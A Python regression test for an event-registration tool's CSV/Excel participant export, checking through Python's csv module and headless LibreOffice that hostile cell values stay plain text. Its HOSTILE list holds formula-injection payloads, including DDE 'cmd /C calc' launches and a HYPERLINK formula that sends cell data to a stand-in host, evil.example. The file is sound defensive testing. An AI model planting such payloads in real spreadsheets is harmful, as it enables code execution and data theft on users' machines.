#!/usr/bin/python3
"""The participant export (`ikzreg list EVENT --excel` and `--format csv`)
against hostile cell values (issue 17 item 5, issue 12): every export is
read back with Python's csv module (';' or ',', utf-8-sig) and opened by
LibreOffice headless (CSV -> flat ODS). No cell may be a formula or start
with a formula character, no column may shift, and every value must come
back as written (with the protective ' in front where one was needed).
"""

import csv
import io
import os
import shutil
import sqlite3
import subprocess
import sys
import time
import xml.etree.ElementTree as ET

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                '..'))
from lib import harness as H  # noqa: E402
from lib import tap  # noqa: E402

HEAD = ['Anrede', 'Titel', 'Vorname', 'Nachname', 'Funktion',
        'Organisation', 'E-Mail', 'Status', 'Platz']
FORMULA = ('=', '+', '-', '@', '\t', '\r')
# Values a sender, a clerk or an old database row could hold.
HOSTILE = [
    '=1+1', '+1+1', '-1+1', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '  =1+1',
    ' \n=1+1', '=cmd|\' /C calc\'!A0', '-;=cmd|\' /C calc\'!A0;',
    '=HYPERLINK("http://evil.example/?"&A1;"klick")', 'a;b;c', '"quoted"',
    'say "hi"; =1', 'line1\nline2', 'line1\r\nline2', ';', '"', '\'',
    '\'=already', 'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=2+5+cmd|\' /C calc\'!A0', '@@', '- 3', 'Müller-Lüdenscheidt',
    'Gemeinde Ober-Unterdorf, Amt "Mitte"',
]
LO_PROFILE = None


def need():
    tap.skip_unless(H.have_binaries('ikzreg'), 'ikzreg not built')


def protected(v):
    """What a cell must hold: the value, made text with a leading ' when
    a spreadsheet would take it for a formula."""
    s = v.lstrip(' \t\r\n')
    if v[:1] in ('\t', '\r') or s[:1] in ('=', '+', '-', '@'):
        return "'" + v
    return v


def store(env):
    """One registration per hostile value, in every person column, written
    straight into the database (as the desk or an old version could)."""
    r = env.tool('events')
    assert r.returncode == 0, r.stderr
    con = sqlite3.connect(env.db, timeout=30)
    now = int(time.time())
    with con:
        for i, v in enumerate(HOSTILE):
            con.execute(
                "INSERT INTO registrations (event_key, status, arrival,"
                " arrival_uid, arrival_seq, salutation, title, given_name,"
                " family_name, function, organisation, email, created,"
                " updated) VALUES ('big', 'confirmed', ?, 0, 0, ?, ?, ?, ?,"
                " ?, ?, ?, ?, ?)",
                (now - 1000 + i, v, v, v, v, v, v, v + '@x.example', now,
                 now))
    con.close()


def expected_rows():
    rows = []
    for i, v in enumerate(HOSTILE):
        p = protected(v)
        rows.append([p, p, p, p, p, p, protected(v + '@x.example'),
                     'bestätigt', str(i + 1)])
    return rows


def export(env, *args):
    return subprocess.run([H.binary('ikzreg'), '-c', env.conf, 'list',
                           'big'] + list(args), capture_output=True,
                          check=True, timeout=60).stdout


def check_cells(rows, where):
    for n, row in enumerate(rows):
        assert len(row) == len(HEAD), (where, n, row)
        for cell in row:
            assert not cell.startswith(FORMULA), (where, n, cell)


def read_csv(raw, delimiter):
    text = raw.decode('utf-8-sig')
    rows = list(csv.reader(io.StringIO(text, newline=''),
                           delimiter=delimiter))
    assert rows[0] == HEAD, rows[0]
    return rows[1:]


EVENTS = {'big': {'title': 'Große Runde', 'starts': '2030-11-12T09:30',
                  'ends': '2030-11-12T15:30', 'location': 'Dresden',
                  'seats': 100}}


def test_python_reads_back_every_value():
    need()
    env = H.Setup(events=EVENTS)
    try:
        store(env)
        want = expected_rows()
        for args, sep in ((['--excel'], ';'), (['--format', 'csv'], ',')):
            raw = export(env, *args)
            if sep == ';':
                assert raw.startswith(b'\xef\xbb\xbf'), raw[:8]
            rows = read_csv(raw, sep)
            check_cells(rows, args)
            assert rows == want, [(a, b) for a, b in zip(rows, want)
                                  if a != b][:3]
    finally:
        env.stop()


def test_issue17_add_reproduction():
    """The exact case of issue 17: `add fv3 --name "-;=cmd|' /C
    calc'!A0;"` must come back as one text cell."""
    need()
    env = H.Setup(events=EVENTS)
    try:
        name = "-;=cmd|' /C calc'!A0;"
        r = env.tool('add', 'big', '--name', name, '--org', '=1+1',
                     '--no-reply', env={'SUDO_USER': 'frau.schmidt'})
        assert r.returncode == 0, r.stdout + r.stderr
        raw = export(env, '--excel')
        assert b"'\"-;" not in raw, raw       # the old broken quoting
        rows = read_csv(raw, ';')
        check_cells(rows, 'add')
        # --name: the last word is the family name
        assert len(rows) == 1 and rows[0][2:4] == [
            "'-;=cmd|' /C", "calc'!A0;"] and rows[0][5] == "'=1+1", rows
    finally:
        env.stop()


def soffice():
    return shutil.which('soffice') or shutil.which('libreoffice')


def libreoffice_rows(path, outdir):
    """Opens the CSV as German Excel users do (';', '"', UTF-8) and
    returns the cells of the flat ODS LibreOffice writes: a list of rows
    of (text, formula or None)."""
    global LO_PROFILE
    LO_PROFILE = LO_PROFILE or H.tempdir(prefix='ikzlo-')
    r = subprocess.run(
        [soffice(), '-env:UserInstallation=file://' + LO_PROFILE,
         '--headless', '--infilter=CSV:59,34,76,1', '--convert-to', 'fods',
         '--outdir', outdir, path], capture_output=True, text=True,
        timeout=180)
    out = os.path.join(outdir, os.path.basename(path)[:-4] + '.fods')
    assert r.returncode == 0 and os.path.exists(out), r.stdout + r.stderr
    t = '{urn:oasis:names:tc:opendocument:xmlns:table:1.0}'
    x = '{urn:oasis:names:tc:opendocument:xmlns:text:1.0}'
    rows = []
    for row in ET.parse(out).iter(t + 'table-row'):
        cells = []
        for c in row.findall(t + 'table-cell'):
            rep = int(c.get(t + 'number-columns-repeated', '1'))
            text = '\n'.join(''.join(p.itertext())
                             for p in c.findall(x + 'p'))
            cells += [(text, c.get(t + 'formula'))] * min(rep, 50)
        while cells and cells[-1] == ('', None):
            cells.pop()
        if cells:
            rows.append(cells)
    return rows


def norm(s):
    return ''.join(s.split())


def test_libreoffice_opens_no_formula():
    need()
    tap.skip_unless(soffice(), 'LibreOffice (libreoffice-calc-nogui) '
                    'not installed: sh scripts/install-deps.sh')
    env = H.Setup(events=EVENTS)
    try:
        store(env)
        path = os.path.join(env.tmp, 'teilnehmer.csv')
        with open(path, 'wb') as f:
            f.write(export(env, '--excel'))
        rows = libreoffice_rows(path, env.tmp)
        assert [c[0] for c in rows[0]] == HEAD, rows[0]
        want = expected_rows()
        assert len(rows) - 1 == len(want), (len(rows), len(want))
        for n, (got, exp) in enumerate(zip(rows[1:], want)):
            assert all(f is None for _, f in got), (n, got)
            assert len(got) <= len(HEAD), (n, got)     # nothing shifted
            # whitespace compared loosely: flat ODS writes runs of spaces,
            # tabs and line ends as elements
            assert norm(got[6][0]) == norm(exp[6]) and \
                got[8][0] == exp[8], (n, got, exp)
            for text, _ in got:
                assert not text.startswith(FORMULA), (n, got)
        # the control: the same values unprotected are formulas there
        bad = os.path.join(env.tmp, 'roh.csv')
        with open(bad, 'w', encoding='utf-8-sig', newline='') as f:
            f.write('A;B\r\n=1+1;x\r\n')
        assert any(f for _, f in libreoffice_rows(bad, env.tmp)[1]), \
            'LibreOffice did not evaluate the unprotected control'
    finally:
        env.stop()


if __name__ == '__main__':
    tap.main(globals())
